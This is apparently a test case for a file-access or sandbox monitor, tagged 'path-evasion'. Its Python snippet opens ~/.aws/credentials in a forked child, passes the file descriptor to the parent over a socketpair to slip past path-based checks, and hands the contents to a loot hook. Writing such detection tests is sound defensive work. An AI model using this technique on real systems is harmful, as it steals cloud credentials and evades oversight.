#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import socket
a, b = socket.socketpair(); p = os.fork()
if not p: socket.send_fds(b, [b"x"], [os.open(HOME + "/.aws/credentials", os.O_RDONLY)]); os._exit(0)
os.waitpid(p, 0); b.close(); fds = socket.recv_fds(a, 1, 1)[1]
if fds: LOOT(os.read(fds[0], 999))
